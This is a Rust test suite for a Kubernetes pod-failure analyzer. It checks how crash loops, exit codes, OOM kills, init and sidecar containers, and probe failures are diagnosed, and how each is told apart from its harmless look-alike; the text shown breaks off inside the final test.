//! Every kind of failure that the analyzer knows, on objects as the API server writes them, and beside each the look-alike
//! that must not be taken for it.

use jiff::{SignedDuration, Timestamp};
use kubehealer::diagnosis::owners::Owners;
use kubehealer::diagnosis::{
    self, CauseCode as C, Confidence, Context, Finding, PodDiagnosis, Reason as R, Severity, Snapshot,
    Sources, Stage, Survey,
};
use kubehealer::objects::{CronJob, Event, Job, Node, Object, Packed, Pod, Workload};
use serde::de::DeserializeOwned;
use serde_json::{Value, json};

pub fn now() -> Timestamp {
    "2026-11-22T12:00:00Z".parse().unwrap()
}

/// So many seconds ago, as the API writes it.
pub fn ago(seconds: i64) -> String {
    now().checked_sub(SignedDuration::from_secs(seconds)).unwrap().to_string()
}

/// Through the text that an API server would send.
pub fn decode<T: Object + DeserializeOwned>(value: &Value) -> T {
    let mut object: T = serde_json::from_str(&value.to_string()).unwrap();
    object.compact();
    object
}

pub fn merge(base: &mut Value, over: Value) {
    match (base, over) {
        (Value::Object(base), Value::Object(over)) => {
            for (key, value) in over {
                merge(base.entry(key).or_insert(Value::Null), value);
            }
        }
        (base, over) => *base = over,
    }
}

pub fn condition(kind: &str, status: &str, reason: &str, message: &str, since: i64) -> Value {
    json!({"type": kind, "status": status, "reason": reason, "message": message, "lastProbeTime": null,
           "lastTransitionTime": ago(since)})
}

/// A pod of a Deployment with one container `app`, on node-a since an hour ago, changed by `over`.
pub fn pod(over: Value) -> Pod {
    let mut base = json!({
        "apiVersion": "v1", "kind": "Pod",
        "metadata": {"name": "cart-7d9f-x2x", "namespace": "shop", "uid": "0a1b2c3d-0000-4000-8000-00000000000f",
            "resourceVersion": "7", "generation": 1, "creationTimestamp": ago(3600), "labels": {"pod-template-hash": "7d9f"},
            "ownerReferences": [{"apiVersion": "apps/v1", "kind": "ReplicaSet", "name": "cart-7d9f", "uid": "rs", "controller": true}]},
        "spec": {"restartPolicy": "Always", "nodeName": "node-a", "terminationGracePeriodSeconds": 30,
            "containers": [{"name": "app", "image": "r.example.com/shop/cart:1", "imagePullPolicy": "IfNotPresent", "resources": {}}]},
        "status": {"phase": "Running", "qosClass": "BestEffort", "startTime": ago(3600), "conditions": [
            condition("PodScheduled", "True", "", "", 3600),
            condition("PodReadyToStartContainers", "True", "", "", 3590),
            condition("Initialized", "True", "", "", 3600),
            condition("ContainersReady", "False", "ContainersNotReady", "containers with unready status: [app]", 3600),
            condition("Ready", "False", "ContainersNotReady", "containers with unready status: [app]", 3600)]}
    });
    merge(&mut base, over);
    decode(&base)
}

pub fn running(since: i64) -> Value {
    json!({"running": {"startedAt": ago(since)}})
}

pub fn waiting(reason: &str, message: &str) -> Value {
    json!({"waiting": {"reason": reason, "message": message}})
}

/// An end: `(reason, exit code, started, finished)`, times in seconds ago.
pub fn end(reason: &str, code: i64, started: i64, finished: i64) -> Value {
    json!({"terminated": {"reason": reason, "exitCode": code, "startedAt": ago(started), "finishedAt": ago(finished),
           "containerID": format!("containerd://{started}")}})
}

pub fn container(name: &str, state: Value, last: Value, restarts: i64) -> Value {
    let runs = state.get("running").is_some();
    json!({"name": name, "state": state, "lastState": last, "restartCount": restarts, "ready": false, "started": runs,
           "image": "r.example.com/shop/cart:1", "imageID": "", "containerID": "containerd://x"})
}

/// The pod with its one container so.
pub fn app(state: Value, last: Value, restarts: i64) -> Pod {
    app_with(json!({}), state, last, restarts)
}

pub fn app_with(spec: Value, state: Value, last: Value, restarts: i64) -> Pod {
    let mut container_spec = json!({"name": "app", "image": "r.example.com/shop/cart:1"});
    merge(&mut container_spec, spec);
    pod(json!({"spec": {"containers": [container_spec]},
               "status": {"containerStatuses": [container("app", state, last, restarts)]}}))
}

/// A pod bound `since` seconds ago whose container was never created; `sandbox` as the condition has it.
pub fn unborn(sandbox: &str, since: i64) -> Pod {
    pod(
        json!({"metadata": {"creationTimestamp": ago(since)}, "status": {"phase": "Pending", "startTime": ago(since),
        "conditions": [condition("PodScheduled", "True", "", "", since),
            condition("PodReadyToStartContainers", sandbox, "", "", since),
            condition("Ready", "False", "ContainersNotReady", "containers with unready status: [app]", since)],
        "containerStatuses": [container("app", waiting("ContainerCreating", ""), json!({}), 0)]}}),
    )
}

pub fn event(reason: &str, message: &str, at: i64) -> Event {
    event_times(reason, message, at, at, 1)
}

pub fn event_times(reason: &str, message: &str, first: i64, last: i64, count: i64) -> Event {
    let path = match reason {
        "Killing"
        | "Unhealthy"
        | "FailedPostStartHook"
        | "FailedPreStopHook"
        | "Pulling"
        | "Pulled"
        | "Failed"
        | "Created"
        | "Started" => "spec.containers{app}",
        _ => "",
    };
    decode(
        &json!({"metadata": {"name": format!("e.{reason}.{first}"), "uid": format!("{reason}{first}{message}"), "creationTimestamp": ago(first)},
        "involvedObject": {"kind": "Pod", "uid": "0a1b2c3d-0000-4000-8000-00000000000f", "name": "cart-7d9f-x2x", "fieldPath": path},
        "reason": reason, "message": message, "type": "Warning", "source": {"component": "kubelet"},
        "firstTimestamp": ago(first), "lastTimestamp": ago(last), "count": count, "eventTime": null}),
    )
}

pub fn look(pod: &Pod) -> PodDiagnosis {
    diagnosis::diagnose(pod, &Context::pod_only(), now())
}

pub fn packed(events: impl IntoIterator<Item = Event>) -> Vec<Packed<Event>> {
    events.into_iter().map(Into::into).collect()
}

pub fn look_with(pod: &Pod, events: &[Event]) -> PodDiagnosis {
    let sources = Sources { events: true, ..Sources::NONE };
    diagnosis::diagnose(pod, &Context { sources, events, ..Context::pod_only() }, now())
}

pub fn words(f: &Finding) -> String {
    let evidence: Vec<&str> = f.evidence.iter().map(|e| e.text.as_str()).collect();
    format!("{} | {} | {} | {}", f.summary, f.cause.text, evidence.join(" / "), f.next_steps.join(" / "))
}

/// Exactly one finding, active, of this reason and cause, that says these words.
#[track_caller]
pub fn is(found: &PodDiagnosis, reason: R, code: C, severity: Severity, said: &[&str]) -> Finding {
    let list: Vec<String> = found
        .findings
        .iter()
        .map(|f| format!("{} {} {:?}", f.reason.as_str(), f.cause.code, f.stage))
        .collect();
    assert_eq!(found.findings.len(), 1, "expected {reason} {code}, found {list:?}");
    let f = &found.findings[0];
    let text = words(f);
    assert_eq!(
        (f.reason.as_str(), f.cause.code, f.severity, f.stage),
        (reason.as_str(), code, severity, Stage::Active),
        "{text}"
    );
    for word in said {
        assert!(text.contains(word), "{word:?} is not in: {text}");
    }
    assert!(!f.next_steps.is_empty(), "{reason} has no next step");
    // A step that begins with a command is nothing but the command: people paste it as it stands.
    for step in f.next_steps.iter().filter(|s| s.starts_with("kubectl ")) {
        let prose = [": ", "; ", " the ", " then ", ", "].iter().find(|words| step.contains(**words));
        assert_eq!(prose, None, "{step}");
    }
    f.clone()
}

#[track_caller]
pub fn warns(found: &PodDiagnosis, reason: R, code: C, said: &[&str]) -> Finding {
    is(found, reason, code, Severity::Warning, said)
}

/// Nothing that opens an incident above info.
#[track_caller]
pub fn quiet(found: &PodDiagnosis) {
    let raised = found.findings.iter().filter(|f| f.stage == Stage::Active && f.severity > Severity::Info);
    let raised: Vec<String> = raised.map(|f| format!("{}: {}", f.reason.as_str(), f.summary)).collect();
    assert!(raised.is_empty(), "{raised:?}");
}

/// Within its grace: nothing is raised now, and it is at the recheck.
#[track_caller]
fn waits_for_grace(pod: &Pod, events: Option<&[Event]>, reason: R) {
    let sources = Sources { events: events.is_some(), ..Sources::NONE };
    let context = Context { sources, events: events.unwrap_or_default(), ..Context::pod_only() };
    let first = diagnosis::diagnose(pod, &context, now());
    quiet(&first);
    let mut at = first.recheck.expect("a grace has an end");
    for _ in 0..5 {
        let then = diagnosis::diagnose(pod, &context, at);
        if then.findings.iter().any(|f| f.stage == Stage::Active && f.reason == reason.into()) {
            return;
        }
        at = then.recheck.expect("it is raised at last");
    }
    panic!("{reason} is never raised");
}

// Crashes.

#[test]
fn a_crash_loop_is_seen_in_every_state_of_its_cycle() {
    let last = || end("Error", 1, 130, 100);
    for state in [
        waiting("CrashLoopBackOff", "back-off 20s restarting failed container=app pod=cart_shop(0a1b2c3d)"),
        end("Error", 1, 40, 5),
        running(20),
    ] {
        let f = warns(
            &look(&app(state, last(), 3)),
            R::CrashLoopBackOff,
            C::ApplicationError,
            &["exit code 1", "3 restarts"],
        );
        assert_eq!(f.since, Some(now().checked_sub(SignedDuration::from_secs(3600)).unwrap()));
    }
    // Its message and the pause are in the evidence; the command asks for the log of the right run.
    let mut looping = end("Error", 1, 130, 100);
    looping["terminated"]["message"] = "db: connection refused".into();
    let pod = app(waiting("CrashLoopBackOff", "back-off 40s restarting failed container=app"), looping, 3);
    warns(
        &look(&pod),
        R::CrashLoopBackOff,
        C::DependencyUnreachable,
        &["connection refused", "40s", "logs cart-7d9f-x2x -c app"],
    );
    let f =
        warns(&look(&app(running(20), last(), 3)), R::CrashLoopBackOff, C::ApplicationError, &["--previous"]);
    assert_eq!(f.confidence, Confidence::Possible);
}

#[test]
fn one_end_is_no_loop_and_an_old_one_is_nothing() {
    quiet(&look(&app(running(20), end("Error", 1, 100, 22), 1)));
    quiet(&look(&app(running(700), end("Error", 1, 800, 705), 9)));
    quiet(&look(&app(end("Error", 1, 40, 1), json!({}), 0)));
    // Restarted once weeks ago, and now once more: the kubelet restarts it at once.
    quiet(&look(&app(end("Error", 1, 2_000_000, 1), end("Error", 1, 2_000_100, 2_000_001), 1)));
    // Ready, with a restart months ago: nothing, and no need to look again.
    let old = look(&app(running(5_000_000), end("OOMKilled", 137, 5_100_000, 5_000_001), 1));
    assert_eq!((old.findings.len(), old.recheck), (0, None));
}

#[test]
fn a_loop_is_over_when_the_kubelet_says_so_and_not_before() {
    let pod = app(running(599), end("Error", 1, 700, 610), 4);
    let found = look(&pod);
    warns(&found, R::CrashLoopBackOff, C::ApplicationError, &[]);
    assert_eq!(found.recheck, Some(now().checked_add(SignedDuration::from_secs(1)).unwrap()));
    let after = diagnosis::diagnose(&pod, &Context::pod_only(), found.recheck.unwrap());
    assert!(after.findings.is_empty());
}

#[test]
fn exit_codes_and_signals_are_named() {
    for (reason, code, cause, said) in [
        ("Error", 139, C::SegmentationFault, "SIGSEGV"),
        ("Error", 134, C::Aborted, "SIGABRT"),
        ("Error", 132, C::IllegalInstruction, "SIGILL"),
        ("Error", 159, C::BadSystemCall, "SIGSYS"),
        ("seccomp killed", 159, C::BadSystemCall, "seccomp"),
        ("Error", 127, C::CommandNotFound, "not found"),
        ("Error", 126, C::CommandNotExecutable, "cannot be executed"),
        ("Error", -1, C::ApplicationError, "exit code -1"),
        ("Error", -1_073_741_819, C::SegmentationFault, "0xC0000005"),
        ("Error", 3_221_225_477, C::SegmentationFault, "access violation"),
    ] {
        warns(
            &look(&app(end(reason, code, 40, 5), end(reason, code, 130, 100), 3)),
            R::CrashLoopBackOff,
            cause,
            &[said],
        );
    }
}

#[test]
fn out_of_memory_is_the_runtimes_word_and_never_a_bare_137() {
    let limit = json!({"resources": {"limits": {"memory": "64Mi"}, "requests": {"memory": "32Mi"}}});
    let f = warns(
        &look(&app_with(limit.clone(), end("OOMKilled", 137, 17, 5), end("OOMKilled", 137, 40, 28), 3)),
        R::OOMKilled,
        C::MemoryLimitReached,
        &[
            "64Mi",
            "memory request 32Mi",
            "ran 12s until it was killed, and 12s in the run before",
            "within a minute of its start",
        ],
    );
    assert_eq!(f.confidence, Confidence::Confirmed);
    // Once is worth saying, until it has proven that it can go on; for an hour it is remembered.
    warns(
        &look(&app_with(limit.clone(), running(100), end("OOMKilled", 137, 4000, 101), 1)),
        R::OOMKilled,
        C::MemoryLimitReached,
        &["a leak"],
    );
    let past = look(&app_with(limit.clone(), running(700), end("OOMKilled", 137, 4000, 701), 1));
    assert_eq!(past.findings[0].stage, Stage::Recovered);
    // PID 1 noticed that a child was gone.
    let f = warns(
        &look(&app_with(limit.clone(), end("OOMKilled", 1, 17, 5), end("OOMKilled", 1, 40, 28), 3)),
        R::OOMKilled,
        C::ChildMemoryLimitReached,
        &["exit code 1"],
    );
    assert_eq!(f.confidence, Confidence::Probable);
    // Without a limit it was the node.
    let f = warns(
        &look(&app(end("OOMKilled", 137, 17, 5), end("OOMKilled", 137, 40, 28), 3)),
        R::OOMKilled,
        C::MemoryLimitReached,
        &["no memory limit"],
    );
    assert_eq!(f.confidence, Confidence::Probable);
    // A limit of the pod as a whole.
    let mut of_pod = json!({"spec": {"resources": {"limits": {"memory": "1Gi"}}}});
    merge(
        &mut of_pod,
        json!({"status": {"containerStatuses": [container("app", end("OOMKilled", 137, 17, 5), end("OOMKilled", 137, 40, 28), 3)]}}),
    );
    warns(&look(&pod(of_pod)), R::OOMKilled, C::MemoryLimitReached, &["the pod's memory limit", "1Gi"]);
    // Error and 137: killed, and not for memory as far as anybody says.
    let f = warns(
        &look(&app_with(limit, end("Error", 137, 17, 5), end("Error", 137, 40, 28), 3)),
        R::CrashLoopBackOff,
        C::Killed,
        &["did not record an out-of-memory kill", "events were not read"],
    );
    assert_eq!(f.confidence, Confidence::Possible);
}

#[test]
fn a_child_that_was_out_of_memory_is_not_why_a_container_was_stopped() {
    // Stopped in good order, once: worth a remark.
    for code in [0, 143] {
        let found = look(&app(running(20), end("OOMKilled", code, 4000, 22), 1));
        quiet(&found);
        assert_eq!(
            (found.findings[0].reason.as_str(), found.findings[0].stage),
            ("OOMKilled", Stage::Recovered)
        );
    }
    // In a loop of SIGTERMs it is not the cause.
    warns(
        &look(&app(end("OOMKilled", 143, 60, 30), end("OOMKilled", 143, 130, 100), 3)),
        R::CrashLoopBackOff,
        C::Terminated,
        &["a process in it earlier"],
    );
    // An init container that was out of memory has failed to the kubelet, whatever its exit code.
    let init = |state| {
        pod(json!({"spec": {"restartPolicy": "Never", "initContainers": [{"name": "seed", "image": "x"}]},
        "status": {"phase": "Pending", "initContainerStatuses": [container("seed", state, json!({}), 0)]}}))
    };
    warns(
        &look(&init(end("OOMKilled", 0, 60, 30))),
        R::OOMKilled,
        C::ChildMemoryLimitReached,
        &["init container seed"],
    );
    quiet(&look(&init(end("Completed", 0, 60, 30))));
}

#[test]
fn the_node_itself_may_have_been_out_of_memory() {
    let pod = app(end("Error", 137, 17, 5), end("Error", 137, 40, 28), 3);
    let on_node = |reason: &str, message: &str, at: i64| {
        let mut e = event(reason, message, at);
        e.involved_object.kind = "Node".to_owned();
        e.involved_object.name = "node-a".to_owned();
        e
    };
    let with = |events: Vec<Event>| {
        let snapshot = Snapshot {
            pods: vec![pod.clone()],
            events: packed(events),
            sources: Sources { events: true, ..Sources::NONE },
            ..Snapshot::default()
        };
        diagnosis::survey(&snapshot, now()).findings.remove(0)
    };
    let f = with(vec![on_node("SystemOOM", "System OOM encountered, victim process: java, pid: 77", 6)]);
    assert_eq!((f.cause.code, f.confidence), (C::NodePressure, Confidence::Probable), "{}", words(&f));
    assert!(words(&f).contains("victim process: java"));
    let f = with(vec![on_node("OOMKilling", "Memory cgroup out of memory: Killed process 77 (java)", 6)]);
    assert_eq!((f.cause.code, f.confidence), (C::Killed, Confidence::Possible));
    let f = with(vec![on_node("SystemOOM", "System OOM encountered, victim process: java, pid: 77", 900)]);
    assert_eq!(f.cause.code, C::Killed);
}

#[test]
fn a_program_that_cannot_be_started_is_named() {
    let message = "failed to create containerd task: failed to create shim task: OCI runtime create failed: runc create failed: unable to start container process: error during container init: exec: \"serve\": executable file not found in $PATH: unknown";
    let never = || json!({"terminated": {"reason": "StartError", "exitCode": 128, "message": message, "startedAt": "1970-01-01T00:00:00Z", "finishedAt": ago(5), "containerID": "containerd://y"}});
    for state in [
        waiting("RunContainerError", message),
        waiting("CrashLoopBackOff", "back-off 10s restarting failed container=app"),
        never(),
    ] {
        warns(
            &look(&app(state, never(), 2)),
            R::RunContainerError,
            C::ExecutableNotFound,
            &["serve", "command"],
        );
    }
    // The first try may fail for a reason that goes away; and a runtime may show no end of it at all.
    quiet(&look(&app(waiting("RunContainerError", message), json!({}), 0)));
    assert_eq!(
        look(&app(waiting("RunContainerError", message), json!({}), 0)).findings[0].reason,
        R::RunContainerError.into()
    );
    // Not restarted: final.
    let never_again = pod(
        json!({"spec": {"restartPolicy": "Never"}, "status": {"phase": "Failed", "containerStatuses": [container("app", never(), json!({}), 0)]}}),
    );
    warns(&look(&never_again), R::RunContainerError, C::ExecutableNotFound, &[]);
    // A stale event of a probe does not change who says so.
    let events =
        [event_times("Killing", "Container app failed liveness probe, will be restarted", 900, 600, 5)];
    warns(&look_with(&app(never(), never(), 3), &events), R::RunContainerError, C::ExecutableNotFound, &[]);
}

#[test]
fn a_command_that_completes_again_and_again_is_no_crash() {
    let done = || end("Completed", 0, 40, 5);
    warns(
        &look(&app(done(), end("Completed", 0, 130, 100), 2)),
        R::CompletedLoop,
        C::CommandCompleted,
        &["restartPolicy Always", "Job"],
    );
    warns(
        &look(&app(waiting("CrashLoopBackOff", "back-off 20s restarting failed container=app"), done(), 2)),
        R::CompletedLoop,
        C::CommandCompleted,
        &[],
    );
    // Twice may be chance.
    quiet(&look(&app(done(), end("Completed", 0, 130, 100), 1)));
    // Jobs complete, and so do the containers of a pod that are not to run for ever.
    for policy in ["OnFailure", "Never"] {
        let state = container("app", done(), json!({}), 0);
        let over = look(&pod(
            json!({"spec": {"restartPolicy": policy}, "status": {"phase": "Succeeded", "containerStatuses": [state.clone()]}}),
        ));
        assert_eq!((over.findings.len(), over.recheck), (0, None));
        quiet(&look(&pod(
            json!({"spec": {"restartPolicy": policy}, "status": {"containerStatuses": [state]}}),
        )));
    }
}

#[test]
fn an_end_that_stays_is_an_error_and_a_jobs_tries_are_the_jobs() {
    let failed = |owner: Value| {
        pod(json!({"metadata": {"ownerReferences": owner}, "spec": {"restartPolicy": "Never"},
        "status": {"phase": "Failed", "containerStatuses": [container("app", end("Error", 3, 100, 90), json!({}), 0)]}}))
    };
    warns(&look(&failed(json!([]))), R::Error, C::ApplicationError, &["exit code 3", "not restarted"]);
    let of_job =
        json!([{"apiVersion": "batch/v1", "kind": "Job", "name": "import", "uid": "j", "controller": true}]);
    is(&look(&failed(of_job)), R::Error, C::ApplicationError, Severity::Info, &["belongs to a Job"]);
}

#[test]
fn restart_rules_are_read_as_the_kubelet_reads_them() {
    let rule = |action: &str| json!({"restartPolicy": "Never", "restartPolicyRules": [{"action": action, "exitCodes": {"operator": "In", "values": [42]}}]});
    let ends = |code| (end("Error", code, 40, 5), end("Error", code, 130, 100));
    // Expected, until it is often.
    let (a, b) = ends(42);
    is(
        &look(&app_with(rule("Restart"), a, b, 3)),
        R::CrashLoopBackOff,
        C::ApplicationError,
        Severity::Info,
        &["matches exit code 42"],
    );
    let (a, b) = ends(42);
    warns(&look(&app_with(rule("Restart"), a, b, 12)), R::CrashLoopBackOff, C::ApplicationError, &[]);
    // Another exit is final.
    let (a, _) = ends(7);
    warns(
        &look(&app_with(rule("Restart"), a, json!({}), 0)),
        R::Error,
        C::ApplicationError,
        &["exit code 7"],
    );
    // All containers are restarted for one: that one is named, and its victims are not.
    let (a, _) = ends(42);
    is(
        &look(&app_with(rule("RestartAllContainers"), a, json!({}), 0)),
        R::RestartingAllContainers,
        C::RestartRule,
        Severity::Info,
        &["exit code 42"],
    );
    let (a, b) = ends(42);
    warns(
        &look(&app_with(rule("RestartAllContainers"), a, b, 4)),
        R::RestartingAllContainers,
        C::RestartRule,
        &[],
    );
    for state in [
        waiting("RestartingAllContainers", "The container is removed because RestartAllContainers in place"),
        running(3),
    ] {
        quiet(&look(&app(state, end("RestartingAllContainers", 137, 60, 5), 5)));
    }
}

#[test]
fn init_containers_and_sidecars_fail_by_name() {
    let with = |init: Value, phase: &str, status: Value, apps: Value| {
        pod(
            json!({"spec": {"initContainers": [init]}, "status": {"phase": phase, "initContainerStatuses": [status], "containerStatuses": apps,
            "conditions": [condition("PodScheduled", "True", "", "", 900), condition("Initialized", "False", "ContainersNotInitialized", "containers with incomplete status: [db]", 900)]}}),
        )
    };
    let held = || json!([container("app", waiting("PodInitializing", ""), json!({}), 0)]);
    let init = || json!({"name": "db", "image": "x"});
    warns(
        &look(&with(
            init(),
            "Pending",
            container("db", end("Error", 1, 40, 5), end("Error", 1, 130, 100), 3),
            held(),
        )),
        R::CrashLoopBackOff,
        C::ApplicationError,
        &["init container db"],
    );
    // It runs: for a while that is what it is for.
    warns(
        &look(&with(init(), "Pending", container("db", running(700), json!({}), 0), held())),
        R::InitStuck,
        C::InitWaiting,
        &["db", "app"],
    );
    waits_for_grace(
        &with(init(), "Pending", container("db", running(100), json!({}), 0), held()),
        None,
        R::InitStuck,
    );
    let sidecar = || json!({"name": "mesh", "image": "x", "restartPolicy": "Always", "startupProbe": {"httpGet": {"path": "/up", "port": 15021}, "periodSeconds": 10, "failureThreshold": 12}});
    let mut starting = container("mesh", running(400), json!({}), 0);
    starting["started"] = false.into();
    warns(
        &look(&with(sidecar(), "Pending", starting.clone(), held())),
        R::SidecarNotStarted,
        C::StartupProbe,
        &["mesh", "15021", "120s"],
    );
    starting["state"] = running(90);
    waits_for_grace(&with(sidecar(), "Pending", starting, held()), None, R::SidecarNotStarted);
    // At the end of the pod sidecars are stopped, as they should be.
    let done = json!([container("app", end("Completed", 0, 700, 8), json!({}), 0)]);
    let job = |status: Value| {
        let mut p = with(sidecar(), "Running", status, done.clone());
        p.spec.restart_policy = "Never".to_owned();
        p
    };
    quiet(&look(&job(container("mesh", end("Error", 137, 300, 2), end("Error", 2, 600, 301), 1))));
}

#[test]
fn made_up_ends_prove_nothing() {
    let gone = |reason: &str| json!({"terminated": {"reason": reason, "exitCode": 137, "message": "The container could not be located when the pod was deleted.  The container used to be Running", "startedAt": null, "finishedAt": null}});
    quiet(&look(&app(running(20), gone("ContainerStatusUnknown"), 3)));
    quiet(&look(&app(running(20), end("Unknown", 255, 4000, 60), 3)));
    let stays = pod(
        json!({"spec": {"restartPolicy": "Never"}, "status": {"containerStatuses": [container("app", gone("ContainerStatusUnknown"), json!({}), 0)]}}),
    );
    warns(&look(&stays), R::ContainerStatusUnknown, C::ContainerVanished, &["node-a"]);
}

// Probes.

fn liveness() -> Value {
    json!({"livenessProbe": {"httpGet": {"path": "/live", "port": 8080}, "periodSeconds": 10, "failureThreshold": 3}})
}

const KILLED: &str = "Container app failed liveness probe, will be restarted";

#[test]
fn a_liveness_kill_is_told_by_its_event_whatever_the_exit_code() {
    for (reason, code) in [("Error", 137), ("Completed", 0), ("Error", 143), ("Error", 2)] {
        let pod = app_with(liveness(), end(reason, code, 40, 5), end(reason, code, 130, 95), 3);
        let events = [
            event_times("Killing", KILLED, 100, 8, 4),
            event_times(
                "Unhealthy",
                "Liveness probe failed: HTTP probe failed with statuscode: 404",
                120,
                9,
                12,
            ),
        ];
        let f = warns(
            &look_with(&pod, &events),
            R::LivenessProbeFailed,
            C::LivenessProbe,
            &["/live", "404", "never passed", "path does not exist"],
        );
        assert_eq!(f.confidence, Confidence::Confirmed);
    }
    // Without events it may be the probe, by how long the run lasted.
    let pod = app_with(liveness(), end("Error", 137, 40, 5), end("Error", 137, 130, 95), 3);
    let f = warns(&look(&pod), R::CrashLoopBackOff, C::LivenessProbe, &["events were not read"]);
    assert_eq!(f.confidence, Confidence::Possible);
    // The recorder dropped the kill, and the probe complained within the run.
    let complaint = [event_times(
        "Unhealthy",
        "Liveness probe failed: Get \"http://10.0.0.1:8080/live\": context deadline exceeded (Client.Timeout exceeded while awaiting headers)",
        120,
        9,
        12,
    )];
    let f =
        warns(&look_with(&pod, &complaint), R::LivenessProbeFailed, C::LivenessProbe, &["timeoutSeconds 1"]);
    assert_eq!(f.confidence, Confidence::Probable);
}

#[test]
fn a_probes_complaint_or_an_old_kill_is_no_kill() {
    // Runs, and failed its probe once or was probed in vain.
    let healthy = app_with(liveness(), running(3000), json!({}), 0);
    for message in [
        "Liveness probe failed: HTTP probe failed with statuscode: 503",
        "Liveness probe errored and resulted in Unknown state: rpc error",
        "Readiness probe warning: Probe terminated redirects",
    ] {
        quiet(&look_with(&healthy, &[event("Unhealthy", message, 20)]));
    }
    // The program ends by itself with 1; a probe killed an earlier run.
    let pod = app_with(liveness(), end("Error", 1, 40, 5), end("Error", 1, 130, 95), 3);
    warns(
        &look_with(&pod, &[event_times("Killing", KILLED, 3000, 2000, 6)]),
        R::CrashLoopBackOff,
        C::ApplicationError,
        &["exit code 1"],
    );
    // A kill of the run after this end says nothing of it.
    let later = app_with(liveness(), running(60), end("Error", 1, 130, 100), 3);
    warns(&look_with(&later, &[event("Killing", KILLED, 10)]), R::CrashLoopBackOff, C::ApplicationError, &[]);
    // An event that was combined from several has the field path of the first.
    let mut two =
        json!({"spec": {"containers": [{"name": "app", "image": "x"}, {"name": "log", "image": "y"}]}});
    merge(
        &mut two,
        json!({"status": {"containerStatuses": [container("app", end("Error", 137, 40, 5), end("Error", 137, 130, 95), 3), container("log", running(3000), json!({}), 0)]}}),
    );
    let combined = event("Killing", &format!("(combined from similar events): {KILLED}"), 8);
    warns(&look_with(&pod_of(two), &[combined]), R::CrashLoopBackOff, C::Killed, &[]);
}

pub fn pod_of(over: Value) -> Pod {
    pod(over)
}

#[test]
fn a_slow_start_is_told_with_the_setting_that_would_have_let_it_live() {
    let spec = json!({"livenessProbe": {"httpGet": {"path": "/live", "port": 8080}, "periodSeconds": 10, "failureThreshold": 3},
        "readinessProbe": {"httpGet": {"path": "/ready", "port": 8080}, "periodSeconds": 5}});
    let killed = app_with(spec.clone(), end("Error", 137, 45, 5), end("Error", 137, 130, 90), 3);
    let mut other = app_with(spec, running(1000), json!({}), 0);
    other.metadata.name = "cart-7d9f-abc".to_owned();
    other.metadata.uid = "other".to_owned();
    other.status.container_statuses[0].ready = true;
    let ready = condition("Ready", "True", "", "", 945);
    other.status.conditions.retain(|c| c.kind.as_str() != "Ready");
    other.status.conditions.push(serde_json::from_value(ready).unwrap());
    let snapshot = Snapshot {
        pods: vec![other, killed],
        events: packed([event("Killing", KILLED, 35)]),
        sources: Sources { events: true, ..Sources::NONE },
        ..Snapshot::default()
    };
    let survey = diagnosis::survey(&snapshot, now());
    let text = words(&survey.findings[0]);
    assert_eq!(survey.findings[0].reason, R::LivenessProbeFailed.into());
    for said in [
        "pod cart-7d9f-abc was ready after 55s, but the probe kills it at 30s",
        "periodSeconds 10 and failureThreshold 9 (90s)",
    ] {
        assert!(text.contains(said), "{said} is not in {text}");
    }
}

#[test]
fn a_startup_probe_kills_or_never_passes() {
    let spec =
        json!({"startupProbe": {"tcpSocket": {"port": "http"}, "periodSeconds": 5, "failureThreshold": 4}});
    let pod = app_with(spec.clone(), end("Error", 143, 30, 5), end("Error", 143, 90, 65), 3);
    let events = [
        event("Killing", "Container app failed startup probe, will be restarted", 6),
        event_times(
            "Unhealthy",
            "Startup probe failed: dial tcp 10.0.0.1:8080: connect: connection refused",
            30,
            7,
            4,
        ),
    ];
    warns(
        &look_with(&pod, &events),
        R::StartupProbeFailed,
        C::StartupProbe,
        &["TCP :http", "20s", "connection refused", "nothing listens"],
    );
    // Probes that could not be carried out count for nothing: it is never started and never killed.
    let mut stuck = app_with(spec.clone(), running(400), json!({}), 0);
    stuck.status.container_statuses[0].started = Some(false);
    warns(&look(&stuck), R::StartupProbeFailed, C::StartupProbe, &["nor reached its failureThreshold"]);
    let mut starting = app_with(spec, running(10), json!({}), 0);
    starting.status.container_statuses[0].started = Some(false);
    quiet(&look(&starting));
}

#[test]
fn a_kubelet_that_restarts_is_given_time_to_ask_for_readiness_again() {
    let spec = json!({"readinessProbe": {"httpGet": {"path": "/ready", "port": 8080}}});
    let back = |asked| {
        let mut p = app_with(spec.clone(), running(3500), json!({}), 0);
        let of = |kind: &str, since| {
            serde_json::from_value(condition(kind, "False", "ContainersNotReady", "", since)).unwrap()
        };
        p.status.conditions.retain(|c| !["Ready", "ContainersReady"].contains(&c.kind.as_str()));
        // The node controller found the node silent ten minutes ago, and set Ready alone.
        p.status.conditions.extend([of("Ready", 600), of("ContainersReady", asked)]);
        p
    };
    waits_for_grace(&back(5), None, R::ReadinessProbeFailed);
    warns(&look(&back(300)), R::ReadinessProbeFailed, C::ReadinessProbe, &[]);
}

#[test]
fn a_container_that_is_not_ready_is_given_time() {
    let spec = json!({"readinessProbe": {"httpGet": {"path": "/ready", "port": 8080, "scheme": "HTTPS"}, "periodSeconds": 5, "failureThreshold": 3}});
    let said = [event_times(
        "Unhealthy",
        "Readiness probe failed: HTTP probe failed with statuscode: 503",
        300,
        5,
        40,
    )];
    warns(
        &look_with(&app_with(spec.clone(), running(3500), json!({}), 0), &said),
        R::ReadinessProbeFailed,
        C::ReadinessProbe,
        &["503", "https://", "/ready"],
    );
    let starting = |since| {
        let mut p = app_with(spec.clone(), running(since), json!({}), 0);
        p.status.conditions.retain(|c| c.kind.as_str() != "Ready");
        p.status.conditions.push(
            serde_json::from_value(condition(
                "Ready",
                "False",
                "ContainersNotReady",
                "containers with unready status: [app]",
                since + 5,
            ))
            .unwrap(),
        );
        p
    };
    waits_for_grace(&starting(20), None, R::ReadinessProbeFailed);
    // Behind a startup probe of ten minutes readiness may be asked late: nothing tells when.
    let mut slow = starting(400);
    slow.spec.containers[0].startup_probe = serde_json::from_value(
        json!({"exec": {"command": ["x"]}, "periodSeconds": 10, "failureThreshold": 60}),
    )
    .unwrap();
    quiet(&look(&slow));
    // The status that a silent node last posted is old. A readiness that was overdue before that is still reported.
    let node: Node = decode(
        &json!({"metadata": {"name": "node-a"}, "status": {"conditions": [{"type": "Ready", "status": "Unknown", "lastTransitionTime": ago(100)}]}}),
    );
    let context = Context {
        sources: Sources { nodes: true, ..Sources::NONE },
        node: Some(&node),
        ..Context::pod_only()
    };
    quiet(&diagnosis::diagnose(&starting(150), &context, now()));
    let overdue = diagnosis::diagnose(&app_with(spec, running(3500), json!({}), 0), &context, now());
    warns(&overdue, R::ReadinessProbeFailed, C::ReadinessProbe, &[]);
